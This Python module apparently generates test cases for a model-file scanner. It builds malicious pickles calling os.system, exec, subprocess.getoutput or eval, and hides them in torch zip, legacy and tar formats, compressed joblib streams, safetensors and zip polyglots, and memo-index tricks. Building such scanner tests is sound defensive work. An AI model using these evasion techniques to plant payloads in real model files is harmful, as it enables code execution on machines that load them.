"""Class 2 and 3 candidates: payloads placed where a real loader reads them but
a scanner may not look (frames, torch legacy streams, torch zip record lookup,
torch's legacy tar layout, joblib compression and array interleaving), and
polyglots that are valid safetensors or zip files too.
"""

import bz2
import gzip
import io
import lzma
import pickletools
import struct
import zipfile
import zlib

import gadgets as G
import pk
from families import case

PLACEHOLDER = "MGPLACEHOLDER-0123456789"


def payload_body(rng, proto=2):
    tag, expr = rng.choice(G.simple_payloads())
    return tag, G.emit_body(expr, rng, proto)


def payload_pickle(rng, proto=None):
    tag, expr = rng.choice(G.simple_payloads())
    data, _ = pk.dumps(expr, rng, proto if proto is not None else rng.choice((0, 2, 4)))
    return tag, data


# ------------------------------------------------------------ injection


def opcode_offsets(p):
    """(offset, opcode name, arg) of every opcode of one pickle."""
    return [(pos, op.name, arg) for op, arg, pos in pickletools.genops(p)]


def inject(p, body, rng, where=None, fix_frames=True):
    """Inserts `body` + POP at an opcode boundary of pickle `p`, keeping it loadable."""
    ops = opcode_offsets(p)
    where = where or rng.choice(("after-header", "before-stop", "random"))
    if where == "after-header":
        skip = {"PROTO", "FRAME"}
        at = next(pos for pos, name, _ in ops if name not in skip)
    elif where == "before-stop":
        at = ops[-1][0]
    else:
        at = rng.choice([pos for pos, name, _ in ops if name not in ("PROTO", "FRAME")])
    insert = body + b"0"
    out = bytearray(p[:at] + insert + p[at:])
    if fix_frames:
        for pos, name, arg in ops:
            if name == "FRAME" and pos + 9 <= at <= pos + 9 + arg:
                struct.pack_into("<Q", out, pos + 1, arg + len(insert))
    return bytes(out), where


def replace_placeholder(data, new_bytes):
    """Swaps the opcode that pushes PLACEHOLDER for `new_bytes`, fixing the frame around it."""
    raw = PLACEHOLDER.encode()
    for op in (b"\x8c" + bytes([len(raw)]), b"X" + struct.pack("<I", len(raw)), b"U" + bytes([len(raw)])):
        idx = data.find(op + raw)
        if idx >= 0:
            old = op + raw
            break
    else:
        raise ValueError("placeholder not found")
    out = bytearray(data[:idx] + new_bytes + data[idx + len(old):])
    frame_at = _enclosing_frame(data, idx, len(old))
    if frame_at is not None:
        length = struct.unpack_from("<Q", data, frame_at + 1)[0]
        struct.pack_into("<Q", out, frame_at + 1, length + len(new_bytes) - len(old))
    return bytes(out)


def _enclosing_frame(data, idx, size):
    j = data.rfind(b"\x95", 0, idx)
    while j >= 0:
        length = struct.unpack_from("<Q", data, j + 1)[0]
        if j + 9 <= idx and idx + size <= j + 9 + length < len(data) + 1 and length < 1 << 32:
            return j
        j = data.rfind(b"\x95", 0, j)
    return None


# ------------------------------------------------------------ frames


def frame_cases(rng, count=90):
    out = []
    variants = ("after-stop-in-frame", "short-frame", "long-frame", "nested-frame", "zero-frames", "split-frames", "frame-before-proto", "trailing-pickle")
    for n in range(count):
        variant = variants[n % len(variants)]
        tag, body = payload_body(rng, 4)
        data = _frame_variant(variant, body, rng)
        name = rng.choice(("model.pkl", "pytorch_model.bin", "model.joblib", "data.pickle", "model.pt"))
        out.append(case(2, f"frame|{variant}", name, data, f"{tag} in a protocol-4 stream, {variant}"))
    return out


def _frame_variant(variant, body, rng):
    benign = b"\x8c\x05hello"
    if variant == "after-stop-in-frame":
        inner = benign + b"." + b"\x80\x04" + body + b"."
        return b"\x80\x04" + pk.frame(inner)
    if variant == "short-frame":
        inner = benign + b"0" + body + b"."
        return b"\x80\x04" + pk.FRAME + struct.pack("<Q", len(benign) + 1) + inner
    if variant == "long-frame":
        inner = body + b"."
        return b"\x80\x04" + pk.FRAME + struct.pack("<Q", len(inner) + rng.choice((1, 8, 100))) + inner
    if variant == "nested-frame":
        return b"\x80\x04" + pk.frame(benign + b"0" + pk.frame(body + b"."))
    if variant == "zero-frames":
        return b"\x80\x04" + pk.frame(b"") + pk.frame(body) + pk.frame(b"") + pk.frame(b".")
    if variant == "split-frames":
        cut = rng.randrange(1, len(body))
        return b"\x80\x04" + pk.frame(body[:cut]) + pk.frame(body[cut:] + b".")
    if variant == "frame-before-proto":
        return pk.frame(b"\x80\x04" + body + b".")
    return b"\x80\x04" + pk.frame(benign + b".") + b"\x80\x04" + pk.frame(body + b".")


# ------------------------------------------------------------ torch legacy


def legacy_torch_bytes(obj, protocol=2):
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False, pickle_protocol=protocol)
    return stable_storage_keys(buf.getvalue())


def stable_storage_keys(data):
    """torch's legacy format names storages by their memory address; renumber them, same length."""
    import pickle

    parts, _ = split_pickles(data, 5)
    for n, key in enumerate(pickle.loads(parts[4])):
        data = data.replace(key.encode(), str(n).zfill(len(key)).encode())
    return data


def split_pickles(data, count):
    """The first `count` back-to-back pickles of `data`, and what follows them."""
    parts, pos = [], 0
    for _ in range(count):
        end = pos + opcode_offsets(data[pos:])[-1][0] + 1
        parts.append(data[pos:end])
        pos = end
    return parts, data[pos:]


def legacy_cases(rng, count=120):
    import torch

    out = []
    roles = ("magic", "protocol", "sys_info", "main", "storage-keys", "storage-bytes", "after-end")
    for n in range(count):
        role = roles[n % len(roles)]
        proto = rng.choice((2, 2, 3, 4, 5))
        obj = {"w": torch.arange(4, dtype=torch.float32), "step": n}
        parts, tail = split_pickles(legacy_torch_bytes(obj, proto), 5)
        tag, body = payload_body(rng, proto)
        if role in roles[:5]:
            k = roles.index(role)
            parts[k], where = inject(parts[k], body, rng)
            note = f"{tag} injected ({where}) into the {role} pickle of a torch legacy (non-zip) stream"
        elif role == "storage-bytes":
            _, pay = payload_pickle(rng, proto)
            tail = tail[:8] + pay + tail[8 + len(pay):] if len(tail) > 8 + len(pay) else tail + pay
            note = f"{tag} pickle bytes overwrite storage data (never unpickled by torch)"
        else:
            _, pay = payload_pickle(rng, proto)
            tail = tail + pay
            note = f"{tag} pickle appended after the last storage (never read by torch)"
        out.append(case(2, f"legacy|{role}", rng.choice(("pytorch_model.bin", "model.pt", "old.pth")), b"".join(parts) + tail, note))
    return out


# ------------------------------------------------------------ torch zip


def torch_zip_entries(obj, protocol=2):
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, pickle_protocol=protocol)
    with zipfile.ZipFile(buf) as z:
        return [(info.filename, z.read(info)) for info in z.infolist()]


def write_zip(entries, compress=zipfile.ZIP_STORED, comment=b""):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compress) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=compress)
        z.comment = comment
    return buf.getvalue()


ZIP_VARIANTS = (
    "plain", "prefix-renamed", "no-prefix", "deep-prefix", "upper-case", "mixed-case-only", "duplicate-benign-first",
    "duplicate-payload-first", "first-entry-other-dir", "deflated", "payload-in-storage", "extra-pickle",
    "backslash-name", "dot-slash-name",
)


def zip_cases(rng, count=140):
    import torch

    out = []
    for n in range(count):
        variant = ZIP_VARIANTS[n % len(ZIP_VARIANTS)]
        proto = rng.choice((2, 2, 3, 4, 5))
        entries = torch_zip_entries({"w": torch.ones(3), "n": n}, proto)
        tag, body = payload_body(rng, proto)
        pkl_i = next(i for i, (nm, _) in enumerate(entries) if nm.endswith("/data.pkl"))
        evil, _ = inject(entries[pkl_i][1], body, rng)
        data = write_zip(*_zip_variant(variant, entries, pkl_i, evil, rng))
        out.append(case(2, f"zip|{variant}", rng.choice(("pytorch_model.bin", "model.pt", "model.ckpt")), data, f"torch zip ({variant}); {tag} injected into a data.pkl"))
    return out


def _zip_variant(variant, entries, pkl_i, evil, rng):
    pkl_name, benign = entries[pkl_i]
    prefix = pkl_name[: -len("data.pkl")]
    with_evil = list(entries)
    with_evil[pkl_i] = (pkl_name, evil)
    if variant == "prefix-renamed":
        return [(("weights/" + nm[len(prefix):]), d) for nm, d in with_evil], zipfile.ZIP_STORED
    if variant == "no-prefix":
        return [(nm[len(prefix):], d) for nm, d in with_evil], zipfile.ZIP_STORED
    if variant == "deep-prefix":
        return [("a/b/" + nm, d) for nm, d in with_evil], zipfile.ZIP_STORED
    if variant == "upper-case":
        return [(prefix + "DATA.PKL", evil)] + entries, zipfile.ZIP_STORED
    if variant == "mixed-case-only":
        return [(prefix + "Data.pkl" if i == pkl_i else nm, evil if i == pkl_i else d) for i, (nm, d) in enumerate(entries)], zipfile.ZIP_STORED
    if variant == "duplicate-benign-first":
        return entries + [(pkl_name, evil)], zipfile.ZIP_STORED
    if variant == "duplicate-payload-first":
        return [(pkl_name, evil)] + entries, zipfile.ZIP_STORED
    if variant == "first-entry-other-dir":
        return [("other/data.pkl", evil)] + entries, zipfile.ZIP_STORED
    if variant == "deflated":
        return with_evil, zipfile.ZIP_DEFLATED
    if variant == "payload-in-storage":
        _, pay = payload_pickle(rng)
        return entries + [(prefix + "data/99", pay)], zipfile.ZIP_STORED
    if variant == "extra-pickle":
        _, pay = payload_pickle(rng)
        return entries + [(prefix + "extra.pkl", pay)], zipfile.ZIP_STORED
    if variant == "backslash-name":
        return [(nm.replace("/", "\\") if i == pkl_i else nm, d) for i, (nm, d) in enumerate(with_evil)] + [(pkl_name, benign)], zipfile.ZIP_STORED
    if variant == "dot-slash-name":
        return [("./" + nm if i == pkl_i else nm, d) for i, (nm, d) in enumerate(with_evil)] + [(pkl_name, benign)], zipfile.ZIP_STORED
    return with_evil, zipfile.ZIP_STORED


# ------------------------------------------------------------ torch legacy tar


def _tar_header(name, size, typeflag=b"0", linkname=b""):
    h = bytearray(512)
    h[0:100] = name.ljust(100, b"\0")[:100]
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"%011o\0" % 0
    h[148:156] = b" " * 8
    h[156:157] = typeflag
    h[157:257] = linkname.ljust(100, b"\0")[:100]
    h[257:265] = b"ustar\x0000"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def _pad(data):
    return data + b"\0" * (-len(data) % 512)


def tar_member(name, data, style):
    """One member named `name`, spelled in the given header style."""
    if style == "gnu-longname":
        long = name + b"\0"
        return _tar_header(b"././@LongLink", len(long), b"L") + _pad(long) + _tar_header(b"decoy", len(data)) + _pad(data)
    if style == "pax-path":
        rec = b" path=" + name + b"\n"
        rec = b"%d" % (len(rec) + len(str(len(rec) + 2))) + rec
        return _tar_header(b"PaxHeaders/x", len(rec), b"x") + _pad(rec) + _tar_header(b"decoy", len(data)) + _pad(data)
    flag = {"regular": b"0", "aregtype": b"\0", "conttype": b"7"}[style]
    return _tar_header(name, len(data), flag) + _pad(data)


def tar_cases(rng, count=90):
    out = []
    styles = ("regular", "aregtype", "conttype", "gnu-longname", "pax-path")
    targets = ("storages", "tensors", "pickle")
    for n in range(count):
        style, target = styles[n % len(styles)], targets[(n // len(styles)) % len(targets)]
        proto = rng.choice((2, 2, 4))
        tag, body = payload_body(rng, proto)
        members = {
            "storages": pk.header(proto) + b"K\x00." + pk.header(proto) + b"]." if proto >= 2 else b"K\x00.].",
            "tensors": pk.header(proto) + b"K\x00.",
            "pickle": pk.header(proto) + b"}\x8c\x01aK\x01s.",
        }
        members[target], where = inject(_first_pickle(members[target]), body, rng, "after-header")
        if target == "storages":
            members[target] += pk.header(proto) + b"]."
        data = b"".join(tar_member(k.encode(), v, style if k == target or rng.random() < 0.5 else "regular") for k, v in members.items())
        data += b"\0" * 1024
        out.append(case(2, f"tar|{style}|{target}", rng.choice(("pytorch_model.bin", "model.pt", "legacy.pth")), data, f"torch legacy tar; {tag} in member '{target}' with {style} headers"))
    return out


def _first_pickle(data):
    return data[: opcode_offsets(data)[-1][0] + 1]


# ------------------------------------------------------------ joblib


COMPRESSORS = {
    "zlib": (zlib.compress, (".pkl.z", ".joblib", ".z")),
    "gzip": (lambda b: gzip.compress(b, mtime=0), (".gz", ".joblib", ".pkl")),
    "bz2": (bz2.compress, (".bz2", ".joblib")),
    "lzma": (lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE), (".lzma", ".joblib")),
    "xz": (lambda b: lzma.compress(b, format=lzma.FORMAT_XZ), (".xz", ".joblib", ".pkl")),
}


def joblib_bytes(obj, protocol=None):
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, protocol=protocol)
    return buf.getvalue()


def joblib_cases(rng, count=160):
    import numpy as np

    out = []
    for n in range(count):
        proto = rng.choice((2, 3, 4, 5))
        obj = [np.arange(rng.randrange(1, 40), dtype=np.int16), {"k": PLACEHOLDER}, np.zeros((2, 3), dtype=np.float32)]
        rng.shuffle(obj)
        tag, body = payload_body(rng, proto)
        data = replace_placeholder(joblib_bytes(obj, proto), body)
        method = rng.choice(("none",) + tuple(COMPRESSORS))
        if method != "none":
            fn, exts = COMPRESSORS[method]
            data, name = fn(data), "model" + rng.choice(exts)
        else:
            name = rng.choice(("model.joblib", "model.pkl", "estimator.pickle"))
        out.append(case(2, f"joblib|{method}|p{proto}", name, data, f"joblib stream with NumpyArrayWrapper arrays, {tag} between/after array bytes, compression {method}"))
    for method, (fn, exts) in sorted(COMPRESSORS.items()):
        for _ in range(8):
            tag, pay = payload_pickle(rng)
            out.append(case(2, f"compressed-raw|{method}", "model" + rng.choice(exts), fn(pay), f"a bare {tag} pickle compressed with {method}"))
    return out


# ------------------------------------------------------------ polyglots


def safetensors_polyglot(payload, rng):
    """A valid safetensors file whose first bytes are also a pickle that hops into the tensor data."""
    op = rng.choice((b"C", b"U"))
    k = rng.randrange(8, 14)
    n = op[0] + 256 * k
    tail = '":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(payload), len(payload))
    key_len = n - 2 - len(tail)
    start = k - 8  # the pickle resumes at file offset 2 + k = key index k - 8
    if key_len - start < len(tail) + 4:
        return None
    key = ["a"] * key_len
    pos = start
    while True:
        remaining = key_len - pos - 2 + len(tail)
        if remaining <= 126:
            if remaining < 32 or remaining in (34, 92):
                return None
            key[pos], key[pos + 1] = op.decode(), chr(remaining)
            break
        hop = rng.randrange(60, 120)
        hop = hop if hop not in (34, 92) else 100
        key[pos], key[pos + 1] = op.decode(), chr(hop)
        pos += 2 + hop
        if pos + 2 > key_len:
            return None
    header = ('{"' + "".join(key) + tail).encode()
    if len(header) != n:
        return None
    return struct.pack("<Q", n) + header + payload


def polyglot_cases(rng, count=80):
    out = []
    attempts = 0
    while len([c for c in out if c["family"].startswith("safetensors")]) < count // 2 and attempts < count * 10:
        attempts += 1
        tag, pay = payload_pickle(rng, rng.choice((2, 3, 4)))
        data = safetensors_polyglot(pay, rng)
        if data is None or not _valid_safetensors(data):
            continue
        name = rng.choice(("pytorch_model.bin", "model.pt", "model.pkl", "model.safetensors"))
        out.append(case(3, f"safetensors-pickle|{data[0]:02x}", name, data, f"valid safetensors whose length prefix starts a pickle that skips the JSON and runs {tag} stored as a U8 tensor"))
    out += _zip_pickle_polyglots(rng, count // 2)
    return out


def _valid_safetensors(data):
    from safetensors.numpy import load

    try:
        load(data)
        return True
    except Exception:  # noqa: BLE001 - any parse error means not valid
        return False


def _zip_pickle_polyglots(rng, count):
    import torch

    out = []
    for n in range(count):
        entries = torch_zip_entries({"w": torch.ones(2)}, 2)
        z = write_zip(entries)
        tag, pay = payload_pickle(rng, rng.choice((0, 2, 4)))
        if n % 2 == 0:
            data, variant = pay + z, "pickle-then-zip"
        else:
            data, variant = z + pay, "zip-then-pickle"
        name = rng.choice(("pytorch_model.bin", "model.pt", "model.pkl"))
        out.append(case(3, f"zip-polyglot|{variant}", name, data, f"{variant}: a {tag} pickle and a valid torch zip in one file"))
    return out


# ------------------------------------------------------------ memo confusion

MEMO_CALLABLES = (("os", "system", G.CMD), ("builtins", "exec", G.PY_STMT), ("subprocess", "getoutput", G.CMD), ("builtins", "eval", G.PY_EXPR))


def _sg(module, name):
    return b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93"


def _uni(text):
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def memo_variant(variant, module, name, arg):
    """The dangerous callable is fetched from the memo by an index only CPython's rules give."""
    call_tail = _uni(arg) + b"\x85R."
    danger, decoy = _sg(module, name), _sg("collections", "OrderedDict")
    table = {
        "memoize-after-put": b"\x80\x04" + decoy + b"q\x050" + danger + b"\x940h\x01" + call_tail,
        "put-overwrite": b"\x80\x04" + decoy + b"q\x000" + danger + b"q\x000h\x00" + call_tail,
        "overwrite-to-decoy": b"\x80\x04" + danger + b"q\x000" + decoy + b"q\x000h\x00" + b")R.",
        "long-binput": b"\x80\x04" + danger + b"r\xa0\x86\x01\x000j\xa0\x86\x01\x00" + call_tail,
        "text-get-in-binary": b"\x80\x02" + b"c" + module.encode() + b"\n" + name.encode() + b"\nq\x070g7\n" + call_tail,
        "dup-then-memo": b"\x80\x04" + danger + b"2\x94\x940" + b"h\x01" + call_tail[:-1] + b"0.",
        "memoize-count-skips-gaps": b"\x80\x04" + decoy + b"q\x0a0" + decoy + b"\x940" + danger + b"\x940h\x02" + call_tail,
    }
    return table[variant]


def memo_cases(rng, per=4):
    out = []
    variants = ("memoize-after-put", "put-overwrite", "overwrite-to-decoy", "long-binput", "text-get-in-binary", "dup-then-memo", "memoize-count-skips-gaps")
    for variant in variants:
        for _ in range(per):
            module, name, arg = rng.choice(MEMO_CALLABLES)
            data = memo_variant(variant, module, name, arg)
            fname = rng.choice(("model.pkl", "pytorch_model.bin", "model.joblib", "data.pickle"))
            out.append(case(2, f"memo|{variant}|{module}.{name}", fname, data, f"{module}.{name} called through the memo ({variant})"))
    return out
